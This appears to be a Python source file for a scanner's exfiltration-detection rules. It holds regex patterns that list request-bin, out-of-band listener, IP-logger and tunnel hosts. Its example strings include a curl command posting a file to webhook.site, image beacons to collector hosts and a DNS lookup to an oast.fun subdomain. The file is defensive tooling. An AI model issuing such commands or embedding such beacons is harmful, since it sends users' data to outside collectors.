"""Addresses of services that show whoever asked what was sent to them: request bins, out-of-band listeners, loggers."""

from firebreak.detect.exfiltration.form import DRAWN, LOADED, REST, outbound
from firebreak.model.finding import Severity

_NAME = r"(?:[\w-]{1,63}\.){0,6}"
_BIN = (
    rf"{_NAME}(?:webhook\.(?:site|cool)|requestbin\.(?:com|net|io|cn)|m\.pipedream\.net|requestcatcher\.com"
    rf"|beeceptor\.com"
    r"|hookbin\.com|postb\.in|ptsv[23]\.com|requestinspector\.com|typedwebhook\.tools|httpdump\.app"
    r"|public\.requestbin\.com"
    r"|interact\.sh|interactsh\.com|oast\.(?:pro|live|site|online|fun|me)|oastify\.com|burpcollaborator\.net"
    r"|dnslog\.(?:cn|pw)"
    r"|ceye\.io|bxss\.(?:me|in)|xss\.(?:ht|report)|xsshunter\.(?:com|net)|canarytokens\.(?:com|org)|iplogger\.(?:org"
    r"|com|ru)"
    r"|grabify\.link|ezstat\.ru|2no\.co|yip\.su|blasze\.(?:com|tk))"
)
_TUNNEL = (
    rf"{_NAME}(?:ngrok(?:-free)?\.(?:app|dev|io)|loca\.lt|localhost\.run|lhr\.life|serveo\.net|trycloudflare\.com"
    rf"|tunnelmole\.net"
    r"|bore\.pub|pagekite\.me|telebit\.io|localto\.net|devtunnels\.ms)"
)
_END = rf"(?:[/?#:]{REST}*)?"
_SOLE = (
    r"(?:webhook\.(?:site|cool)|requestbin\.|pipedream\.net|requestcatcher\.|beeceptor\.|hookbin\.|postb\.in"
    r"|ptsv[23]\.|requestinspector\."
    r"|typedwebhook\.|httpdump\.|interact\.sh|interactsh\.|oast\.|oastify\.|burpcollaborator\.|dnslog\.|ceye\.io"
    r"|bxss\.|xss\.(?:ht|report)"
    r"|xsshunter\.|canarytokens\.|iplogger\.|grabify\.|ezstat\.|2no\.co|yip\.su|blasze\.)"
)
_TUNNELS = (
    r"(?:ngrok(?:-free)?\.|loca\.lt|localhost\.run|lhr\.life|serveo\.|trycloudflare\.|tunnelmole\.|bore\.pub"
    r"|pagekite\.|telebit\.|localto\.net"
    r"|devtunnels\.)"
)

RULES = (
    outbound(
        "collector-image",
        rf"(?:{DRAWN}|{LOADED})((?:https?:)?//(?:{_BIN}|{_TUNNEL})\b{_END})",
        "Image, frame or script from a service that collects requests",
        ("![](https://webhook.site/1b2c?q=a)", '<img src="//abc.oast.fun/x">', "![a](https://a1.ngrok-free.app/p)"),
        ("![x](https://example.com/webhook.png)", "[x](https://webhook.site/1)"),
        score=0.85,
        group=1,
        trigger=rf"(?:!\[[^\]\n]*\]|<\w+\s)[^\n]*(?:{_SOLE}|{_TUNNELS})",
    ),
    outbound(
        "collector-address",
        (
            rf"\b(?:https?://{_BIN}|(?:[\w-]{{1,63}}\.){{1,6}}(?:oast\.(?:pro|live|site|online|fun|me)|oastify\.com"
            rf"|burpcollaborator\.net|dnslog\.cn))\b{_END}"
        ),
        "Address of a service that shows what was sent to it",
        ("curl https://webhook.site/1b2c -d @x", "https://x.m.pipedream.net", "nslookup a.b.oast.fun"),
        ("our webhook site", "https://requestbin.example.org/"),
        score=0.6,
        severity=Severity.MEDIUM,
        trigger=_SOLE,
    ),
    outbound(
        "tunnel-address",
        rf"\bhttps?://{_TUNNEL}\b{_END}",
        "Address of a tunnel to somebody's machine, as developers use them too",
        ("https://1a2b.ngrok-free.app/hook", "https://x-y.trycloudflare.com"),
        ("install ngrok", "https://ngrok.com/docs"),
        score=0.35,
        severity=Severity.LOW,
        trigger=_TUNNELS,
    ),
)
